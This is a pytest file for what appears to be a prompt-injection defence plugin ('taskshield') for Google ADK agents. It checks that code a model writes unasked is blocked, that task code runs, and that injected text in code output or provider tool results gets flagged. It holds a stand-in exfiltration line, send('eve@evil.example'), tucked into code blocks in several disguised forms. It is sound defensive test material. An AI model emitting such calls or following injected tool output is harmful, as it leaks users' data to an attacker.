"""Code that a model writes is a call, and what it prints is a tool's output."""

from collections.abc import Sequence
from typing import Any

import pytest
from google.adk.apps import App
from google.adk.artifacts import InMemoryArtifactService
from google.adk.code_executors.base_code_executor import BaseCodeExecutor
from google.adk.code_executors.code_execution_utils import CodeExecutionResult
from google.adk.events.event import Event
from google.adk.runners import Runner
from google.genai import types
from pydantic import PrivateAttr

from taskshield.core.levels import Level
from taskshield.integrations.google_adk import TaskShieldPlugin
from taskshield.integrations.google_adk.contents import messages_of
from tests.engine.sessions import run
from tests.integrations.google_adk.agents import (
    INJECTED,
    TASK,
    Answer,
    Office,
    Script,
    call,
    says,
    talk,
)

GOOD, EVIL = "print(sum([1, 2]))", "send('eve@evil.example')"
MARKED = f"12 {INJECTED}"


class Executor(BaseCodeExecutor):
    """Keeps the code that it is given, and prints what it was told to."""

    _ran: list[str] = PrivateAttr(default_factory=list)
    _prints: str = PrivateAttr(default="3")

    def execute_code(self, invocation_context: Any, code_execution_input: Any) -> Any:
        self._ran.append(code_execution_input.code)
        return CodeExecutionResult(stdout=self._prints)


def written(code: str) -> types.Part:
    return types.Part.from_executable_code(code=code, language=types.Language.PYTHON)


def printed(text: str) -> types.Part:
    return types.Part.from_code_execution_result(output=text, outcome=types.Outcome.OUTCOME_OK)


def signed(part: types.Part) -> types.Part:
    return part.model_copy(update={"thought": True})


def played(office: Office, answers: Sequence[Answer], executor: Any) -> tuple[Script, list[Event]]:
    script = Script(answers)
    agent = office.agent(script, code_executor=executor)
    app = App(name="mail", root_agent=agent, plugins=[TaskShieldPlugin(office.shield())])
    runner = Runner(
        app=app,
        session_service=office.sessions,
        artifact_service=InMemoryArtifactService(),
        auto_create_session=True,
    )
    return script, run(talk(runner, TASK))


@pytest.mark.parametrize(
    "answer",
    [
        [written(EVIL)],
        [says("Let me see."), written(EVIL)],
        [says(f"Let me see.\n```python\n{EVIL}\n```")],
        [says(f"```tool_code\n{EVIL}\n```")],
        [says("```python\n"), says(f"{EVIL}\n```")],
        [signed(says(f"```python\n{EVIL}\n```"))],
        [written(EVIL), call("read_mail")],
    ],
)
def test_code_that_no_one_asked_for_does_not_run(answer: Answer) -> None:
    office, executor = Office(mail="Hello."), Executor()
    script, _ = played(office, [answer, [says("Done.")]], executor)
    assert executor._ran == []
    assert "Not carried out" in script.heard[1]
    assert any(not each.allowed and each.calls for each in office.decisions)


def test_code_for_the_task_runs_and_is_a_call_of_the_session() -> None:
    office, executor = Office(), Executor()
    script, events = played(office, [[written(GOOD)], [says("It is 3.")]], executor)
    assert executor._ran == [GOOD] and "3" in script.heard[1]
    named = [verdict.call.name for each in office.decisions for verdict in each.calls]
    assert named == ["execute_code"]
    calls = [call.arguments for message in messages_of(events) for call in message.tool_calls]
    assert len(calls) == 1 and GOOD in calls[0]


def test_what_code_prints_is_checked_before_the_model_reads_it() -> None:
    office, executor = Office(), Executor()
    executor._prints = MARKED
    script, events = played(office, [[written(GOOD)], [says("It is 12.")]], executor)
    assert "[Task Shield" in script.heard[1]
    assert any(INJECTED in each.text and each.level is Level.TOOL for each in messages_of(events))


def test_what_the_provider_has_run_is_read_before_the_calls_beside_it() -> None:
    office = Office()
    answer = [written(GOOD), printed(MARKED), call("read_mail")]
    script, _ = played(office, [answer, [says("It is 12.")]], None)
    made = [bool(each.calls) for each in office.decisions]
    assert [each.action for each in office.decisions].index("annotate") < made.index(True)
    assert script.heard[1].count("[Task Shield") >= 2  # the code's result, and the mail


def test_a_result_of_a_tool_at_the_provider_is_read() -> None:
    office = Office()
    response = types.ToolResponse(id="t", response={"page": MARKED})
    answer = [types.Part(tool_response=response), says("It is 12.")]
    played(office, [answer], None)
    assert "annotate" in [each.action for each in office.decisions]
